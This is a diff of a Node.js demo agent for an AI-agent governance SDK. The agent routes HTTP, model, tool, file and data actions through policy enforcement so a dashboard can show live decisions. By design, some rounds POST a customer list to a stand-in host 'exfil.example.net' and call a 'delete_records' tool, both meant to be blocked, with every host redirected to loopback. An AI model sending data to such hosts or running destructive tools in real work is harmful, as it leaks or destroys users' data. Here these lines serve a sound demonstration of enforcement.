@@ -1,129 +1,205 @@
 #!/usr/bin/env node
-// The demo agent `npm start` runs next to the server: it registers, then reports one event of every
-// type through TruseraClient, every few seconds, so there is something live to look at.
+// The demo agent `npm start` runs next to the server. Every event it reports comes from the SDK deciding
+// a real call against the project's active policy on the server (refreshed every 2 s), so editing the
+// policy on the dashboard changes what the next round does:
+//   - HTTP calls through node:http, seen and decided by the TruseraInterceptor (block mode, policy from
+//     the server's bundle). Every host name resolves to a loopback stand-in, so nothing leaves the machine.
+//   - model and tool calls through the OpenAI client (to a loopback stand-in of the OpenAI API), decided
+//     and recorded by TruseraOpenAI; a forbidden tool never runs.
+//   - file writes and data reads, decided by a CedarEvaluator holding the same bundle before they happen.
 // Run alone: TRUSERA_API_KEY=tsk_... TRUSERA_API_URL=http://127.0.0.1:7780 node examples/demo-agent/demo-agent.mjs [--once]
-import { createEvent, EventType, TruseraClient } from "trusera-sdk";
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { request } from "node:http";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import OpenAI from "openai";
+import { CedarEvaluator, PolicyViolationError, TruseraClient, TruseraInterceptor } from "trusera-sdk";
+import { dataRequest, decisionRequest, fileWriteRequest } from "trusera-sdk/cedar";
+import { TruseraOpenAI } from "trusera-sdk/openai";
+import { startStandIns } from "./stand-ins.mjs";
 
+const AGENT = "demo-agent";
 const once = process.argv.includes("--once");
 const intervalMs = Number(process.env.DEMO_INTERVAL_MS ?? 5000);
-
-const client = new TruseraClient({ flushInterval: 1000 }); // apiKey and baseUrl from the environment
-const apiKey = process.env.TRUSERA_API_KEY;
 const baseUrl = process.env.TRUSERA_API_URL ?? "http://127.0.0.1:7780";
-const agentId = await client.registerAgent("demo-agent", "custom");
+const apiKey = process.env.TRUSERA_API_KEY;
 
-/** Asks the server whether this agent may call `url` (allow when the server cannot say). */
-async function decide(url) {
+const standIns = await startStandIns();
+const workDir = mkdtempSync(join(tmpdir(), "trusera-demo-"));
+mkdirSync(join(workDir, "reports"));
+writeFileSync(join(workDir, "customers.json"), JSON.stringify([{ id: 1, name: "Ada" }]));
+
+const client = new TruseraClient({ agentId: AGENT, flushInterval: 1000 }); // key and URL from the environment
+const interceptor = new TruseraInterceptor();
+interceptor.install(client, {
+  enforcement: "block",
+  policyUrl: "/api/v1/policies/bundle",
+  policyRefreshInterval: 2000,
+  // The model API stand-in is recorded as llm_invoke by TruseraOpenAI, and the agent's own polls of the
+  // policy bundle are bookkeeping: neither is recorded again as an api_call.
+  excludePatterns: [standIns.openaiBaseURL, new URL("/api/v1/policies/bundle", baseUrl).href].map(
+    (u) => `^${u.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}`,
+  ),
+});
+
+// The same bundle for what the interceptor does not see (tools, files, data), polled with its ETag.
+const evaluator = new CedarEvaluator();
+let etag = null;
+async function refreshPolicy() {
   try {
-    const res = await fetch(new URL("/api/v1/cedar/evaluate", baseUrl), {
-      method: "POST",
-      headers: { authorization: `Bearer ${apiKey}`, "content-type": "application/json" },
-      body: JSON.stringify({
-        principal: "demo-agent",
-        action: "api_call",
-        resource: { type: "Endpoint", id: url },
-        context: { url, method: "GET" },
-      }),
+    const res = await fetch(new URL("/api/v1/policies/bundle", baseUrl), {
+      headers: { authorization: `Bearer ${apiKey}`, ...(etag ? { "if-none-match": etag } : {}) },
     });
-    const answer = await res.json();
-    return { decision: answer.decision ?? "allow", policyIds: answer.diagnostic?.reasons ?? [] };
-  } catch {
-    return { decision: "allow", policyIds: [] };
+    if (res.status === 304 || !res.ok) return;
+    const bundle = await res.json();
+    await evaluator.loadPolicy(bundle.policies ?? "", { defaultDecision: bundle.default_decision });
+    etag = res.headers.get("etag");
+  } catch (err) {
+    // The last good policy stays; the interceptor logs its own bundle problems.
+    console.error(`demo-agent: policy bundle not refreshed: ${err.message}`);
   }
 }
 
-let round = 0;
-async function oneRound() {
-  round++;
-  const started = Date.now();
-  client.track(
-    createEvent(
-      EventType.DECISION,
-      "plan_research",
-      { confidence: 0.92, reasoning: "user asked for AI news", selected_action: "search" },
-      { round },
-    ),
-  );
-  client.track(
-    createEvent(
-      EventType.TOOL_CALL,
-      "web_search",
-      { query: "latest AI security news", results_count: 10 },
-      { duration_ms: 250, status: "success" },
-    ),
-  );
-  client.track(
-    createEvent(
-      EventType.LLM_INVOKE,
-      "openai.gpt-4o",
-      { model: "gpt-4o", prompt_tokens: 150, completion_tokens: 75, temperature: 0.7 },
-      { duration_ms: 1200, provider: "openai" },
-    ),
-  );
-  client.track(
-    createEvent(
-      EventType.DATA_ACCESS,
-      "database.reports.read",
-      { table: "reports", operation: "read", rows_returned: 42 },
-      { duration_ms: 15, classification: "internal" },
-    ),
-  );
-  // An HTTP call decided by the server's active policy first (the remote decision endpoint): every
-  // other round the agent tries a host that `npm start`'s starter policy forbids, and is blocked.
-  const target = round % 2 ? "https://api.example.com/v1/items?page=1" : "https://exfil.example.net/upload";
-  const { decision, policyIds } = await decide(target);
-  client.track(
-    createEvent(
-      EventType.API_CALL,
-      `GET ${target}`,
+const trusera = new TruseraOpenAI(client, { enforcement: "block", cedarEvaluator: evaluator });
+const openai = trusera.wrap(new OpenAI({ baseURL: standIns.openaiBaseURL, apiKey: "sk-offline" }));
+const tools = trusera.wrapTools({
+  web_search: ({ query }) => `3 results for ${query}`,
+  delete_records: ({ table }) => {
+    writeFileSync(join(workDir, "deleted.txt"), table); // the starter policy forbids this tool
+    return `deleted ${table}`;
+  },
+});
+
+/** An HTTP call as an agent makes it; every host resolves to the loopback stand-in. */
+function httpCall(method, url, body) {
+  return new Promise((resolve, reject) => {
+    const u = new URL(url);
+    const req = request(
       {
-        url: target,
-        method: "GET",
-        status_code: decision === "deny" ? 0 : 200,
-        response_size_bytes: decision === "deny" ? 0 : 1524,
+        method,
+        hostname: u.hostname,
+        port: standIns.httpPort,
+        path: `${u.pathname}${u.search}`,
+        lookup: (_host, options, cb) =>
+          options?.all ? cb(null, [{ address: "127.0.0.1", family: 4 }]) : cb(null, "127.0.0.1", 4),
       },
-      {
-        duration_ms: 340,
-        decision,
-        enforcement: "block",
-        policy_ids: policyIds,
-        blocked: decision === "deny",
-        library: "fetch",
+      (res) => {
+        res.resume();
+        res.on("end", () => resolve(res.statusCode));
       },
-    ),
-  );
-  client.track(
-    createEvent(
-      EventType.FILE_WRITE,
-      "save_report",
-      { path: "/tmp/report.md", size_bytes: 1024, content_type: "text/markdown", operation: "write" },
-      { duration_ms: 5 },
-    ),
-  );
-  client.track(
-    createEvent(
-      EventType.POLICY_VIOLATION,
-      "POST https://exfil.example.net/upload",
-      { url: "https://exfil.example.net/upload", method: "POST" },
-      { decision: "deny", enforcement: "block", policy_ids: ["no-exfil"], blocked: true, library: "fetch" },
-    ),
-  );
-  return Date.now() - started;
+    );
+    req.on("error", reject);
+    req.end(body);
+  });
 }
 
+/**
+ * Decides a local action with the bundle before it happens: when allowed, does it and records `event`
+ * with the decision; when denied, records a policy_violation instead and does nothing.
+ */
+function governed(cedarRequest, event, act) {
+  const verdict = evaluator.evaluate(cedarRequest);
+  const metadata = { decision: verdict.decision, policy_ids: verdict.policyIds, enforcement: "block" };
+  if (verdict.decision === "deny") {
+    client.track({ type: "policy_violation", name: event.name, payload: event.payload, metadata });
+    return `refused by ${verdict.policyIds.join(", ") || "default deny"}`;
+  }
+  const result = act();
+  client.track({ ...event, metadata: { ...metadata, ...event.metadata } });
+  return result;
+}
+
+let round = 0;
+const outcomes = [];
+async function oneRound() {
+  round++;
+  await refreshPolicy();
+  const say = (what, result) => outcomes.push(`${what}: ${result}`);
+  say(
+    "plan",
+    governed(
+      decisionRequest(AGENT, "plan_research"),
+      {
+        type: "decision",
+        name: "plan_research",
+        payload: { selected_action: "search, then clean up", round },
+      },
+      () => "decided",
+    ),
+  );
+  // A model turn that asks for two tools; the policy decides each before it runs.
+  const messages = [
+    { role: "user", content: "Find AI security news, then clean up the old customer table." },
+  ];
+  try {
+    const first = await openai.chat.completions.create({ model: "gpt-4o-mini", messages });
+    for (const call of first.choices[0]?.message.tool_calls ?? []) {
+      try {
+        say(call.function.name, await tools[call.function.name](JSON.parse(call.function.arguments)));
+      } catch (err) {
+        if (!(err instanceof PolicyViolationError)) throw err;
+        say(call.function.name, `blocked (${err.policyIds.join(", ")})`);
+      }
+    }
+  } catch (err) {
+    say("model", `failed: ${err.message}`);
+  }
+  // Outbound HTTP: a routine API, and every other round an upload to a host the starter policy forbids.
+  const calls = [["GET", `http://api.example.com/v1/items?page=${round}`]];
+  if (round % 2 === 0) calls.push(["POST", "http://exfil.example.net/upload", "customer list"]);
+  for (const [method, url, body] of calls) {
+    try {
+      say(`${method} ${url}`, await httpCall(method, url, body));
+    } catch (err) {
+      say(`${method} ${url}`, err instanceof PolicyViolationError ? "blocked" : `failed: ${err.message}`);
+    }
+  }
+  // Local actions the interceptor cannot see, decided by the same policy.
+  const report = join(workDir, "reports", `round-${round}.md`);
+  say(
+    "write report",
+    governed(
+      fileWriteRequest(AGENT, report),
+      { type: "file_write", name: "save_report", payload: { path: report, operation: "write" } },
+      () => {
+        writeFileSync(report, `# Round ${round}\n`);
+        return "written";
+      },
+    ),
+  );
+  say(
+    "read customers",
+    governed(
+      dataRequest(AGENT, "customers", "read"),
+      { type: "data_access", name: "customers.read", payload: { source: "customers", operation: "read" } },
+      () => `${JSON.parse(readFileSync(join(workDir, "customers.json"), "utf8")).length} row(s)`,
+    ),
+  );
+}
+
+async function stop(code = 0) {
+  clearInterval(timer);
+  interceptor.uninstall();
+  await client.close();
+  await standIns.close();
+  rmSync(workDir, { recursive: true, force: true });
+  process.exit(code);
+}
+
+let timer;
 await oneRound();
 await client.flush();
-console.error(`demo-agent: registered as ${agentId}; sent ${client.stats.sent} events (one of each type).`);
-
+console.error(`demo-agent: round 1 ${outcomes.join("; ")}`);
+outcomes.length = 0;
 if (once) {
-  await client.close();
+  await stop(0);
 } else {
-  const timer = setInterval(() => void oneRound(), intervalMs);
-  const stop = async () => {
-    clearInterval(timer);
-    await client.close();
-    process.exit(0);
-  };
-  process.on("SIGINT", stop);
-  process.on("SIGTERM", stop);
+  timer = setInterval(() => {
+    void oneRound().then(() => {
+      if (process.env.DEMO_VERBOSE) console.error(`demo-agent: round ${round} ${outcomes.join("; ")}`);
+      outcomes.length = 0;
+    });
+  }, intervalMs);
+  process.on("SIGINT", () => void stop(0));
+  process.on("SIGTERM", () => void stop(0));
 }
